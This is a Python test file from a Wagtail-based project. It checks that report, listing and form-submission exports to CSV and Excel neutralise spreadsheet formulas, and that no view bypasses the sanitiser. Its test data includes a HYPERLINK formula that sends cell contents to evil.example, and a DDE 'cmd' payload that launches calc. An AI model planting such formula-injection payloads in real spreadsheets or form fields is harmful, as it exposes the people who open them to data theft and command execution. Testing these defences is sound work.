"""The back office's own downloads (Wagtail's reports, listings with ``list_export``, form submissions) keep a text
that a spreadsheet would run as a formula as text, like ours (issue 9, finding 4): they are written by
kernkompas.lib.spreadsheet (see kernkompas/core/wagtail_exports.py)."""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace

import pytest
from django.urls import get_resolver, reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.forms.views import SubmissionsListView
from wagtail.models import Page

from kernkompas.accounts.models import User
from kernkompas.core import wagtail_exports

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")'


@pytest.fixture
def admin_client(client, db):
    admin = User.objects.create_superuser(username="anton", email="anton@example.org", password="x")
    client.force_login(admin)
    return client


@pytest.fixture
def hostile_page(admin_client):
    """A published page whose title is a formula: in the ageing-pages report and in the site history."""
    admin = User.objects.get(username="anton")
    page = Page.get_first_root_node().add_child(instance=Page(title=HOSTILE, slug="formule", live=False))
    page.save_revision(user=admin).publish(user=admin)
    return page


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    # In Dutch (the default) ';'-separated, as Dutch Excel opens a CSV (issue 11: downloads in Dutch number format).
    return list(csv.reader(io.StringIO(content), delimiter=";"))


def _xlsx(response):
    assert response.status_code == 200, response.status_code
    return load_workbook(io.BytesIO(b"".join(response.streaming_content))).active


def _the_title_cell(sheet):
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a formula in the Excel file"
    return next(cell for cell in cells if isinstance(cell.value, str) and "HYPERLINK" in cell.value)


@pytest.mark.parametrize("report", ["wagtailadmin_reports:aging_pages", "wagtailadmin_reports:site_history"])
def test_a_wagtail_report_in_csv_puts_an_apostrophe_before_a_formula(hostile_page, admin_client, report):
    rows = _csv(admin_client.get(reverse(report), {"export": "csv"}))
    titles = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert titles and set(titles) == {"'" + HOSTILE}


@pytest.mark.parametrize("report", ["wagtailadmin_reports:aging_pages", "wagtailadmin_reports:site_history"])
def test_a_wagtail_report_in_excel_holds_the_formula_as_text_with_a_quote_prefix(hostile_page, admin_client, report):
    cell = _the_title_cell(_xlsx(admin_client.get(reverse(report), {"export": "xlsx"})))
    assert (cell.value, cell.data_type, cell.quotePrefix) == (HOSTILE, "s", True)


def test_the_excel_report_keeps_its_dates_as_dates(hostile_page, admin_client):
    sheet = _xlsx(admin_client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "xlsx"}))
    row = next(row for row in sheet.iter_rows() if row[0].value == HOSTILE)
    hostile_page.refresh_from_db()
    [published] = [cell for cell in row if cell.is_date]
    # Excel keeps milliseconds; the time is UTC, as Wagtail writes it.
    assert abs(published.value - hostile_page.last_published_at.replace(tzinfo=None)).total_seconds() < 0.001
    assert published.number_format != "General"


class Listing(SpreadsheetExportMixin):
    """A listing as a snippet viewset with ``list_export`` builds it (the same mixin, the same writers)."""

    list_export = ["name", "address", "floor_area"]
    export_headings = {"name": "=Naam", "address": "Adres"}


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_a_listing_export_neutralises_values_and_headings_and_keeps_numbers(export_format):
    units = [SimpleNamespace(name=HOSTILE, address="Markt 1;=1+1", floor_area=-85)]
    response = Listing().as_spreadsheet(units, export_format)
    if export_format == "csv":
        content = b"".join(response.streaming_content).decode("utf-8-sig")
        # Every text quoted: Dutch Excel splits on ";", and an unquoted "Markt 1;=1+1" would start a formula cell.
        assert content.splitlines()[1] == f'"\'{HOSTILE.replace(chr(34), chr(34) * 2)}";"Markt 1;=1+1";-85'
        assert content.splitlines()[0].startswith('"\'=Naam"')
        return
    sheet = _xlsx(response)
    assert [(c.value, c.quotePrefix) for c in sheet[1]] == [("=Naam", True), ("Adres", False), ("floor_area", False)]
    name, address, area = sheet[2]
    assert (name.value, name.data_type, name.quotePrefix) == (HOSTILE, "s", True)
    assert (address.value, address.data_type) == ("Markt 1;=1+1", "s")
    assert (area.value, area.data_type) == (-85, "n")


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_form_submissions_neutralise_a_visitors_answers_and_an_editors_labels(export_format):
    view = SubmissionsListView()
    view.form_page = SimpleNamespace(slug="meldpunt")
    view.list_export = ["naam", "opties"]
    view.export_headings = {"naam": "@Naam", "opties": "Opties"}
    answers = SimpleNamespace(get_data=lambda: {"naam": "-2+3+cmd|' /C calc'!E2", "opties": ["=1+1", "b"]})
    response = view.as_spreadsheet([answers], export_format)
    if export_format == "csv":
        content = b"".join(response.streaming_content).decode("utf-8-sig")
        assert list(csv.reader(io.StringIO(content), delimiter=";")) == [
            ["'@Naam", "Opties"],
            ["'-2+3+cmd|' /C calc'!E2", "'=1+1, b"],
        ]
        return
    sheet = _xlsx(response)
    assert [(c.value, c.data_type, c.quotePrefix) for row in sheet.iter_rows() for c in row] == [
        ("@Naam", "s", True),
        ("Opties", "s", False),
        ("-2+3+cmd|' /C calc'!E2", "s", True),
        ("=1+1, b", "s", True),
    ]


def export_views() -> list[type]:
    """Every view class with spreadsheet downloads, Wagtail's and ours (not the examples in tests)."""
    get_resolver().url_patterns  # noqa: B018 - loads the back office's URLs, so that every export view is imported
    views, pending = [], [SpreadsheetExportMixin]
    while pending:
        views += (subclasses := pending.pop().__subclasses__())
        pending += subclasses
    return [view for view in views if ".tests." not in f"{view.__module__}."]


def writers_past_the_sanitiser(views: list[type]) -> list[str]:
    return [
        f"{view.__module__}.{view.__qualname__}.{name}"
        for view in views
        for name in wagtail_exports.WRITERS
        if name in vars(view)
    ]


def test_no_view_of_the_back_office_writes_a_spreadsheet_its_own_way():
    assert SpreadsheetExportMixin.stream_csv is wagtail_exports.stream_csv
    assert SpreadsheetExportMixin.write_xlsx is wagtail_exports.write_xlsx
    views = export_views()
    assert {"SubmissionsListView", "LogEntriesView", "AgingPagesView", "IndexView"} <= {v.__name__ for v in views}
    own_writers = writers_past_the_sanitiser(views)
    assert not own_writers, (
        "These views write a CSV or Excel file past kernkompas.lib.spreadsheet (a formula in it would run in a "
        "spreadsheet); choose what goes into a cell with to_row_dict or custom_field_preprocess instead:\n"
        + "\n".join(own_writers)
    )


def test_the_guard_catches_a_view_that_writes_its_own_rows():
    class OwnRows(Listing):
        def write_csv_row(self, writer, row_dict):
            return writer.writerow(row_dict)

    assert writers_past_the_sanitiser([Listing, OwnRows]) == [f"{__name__}.{OwnRows.__qualname__}.write_csv_row"]
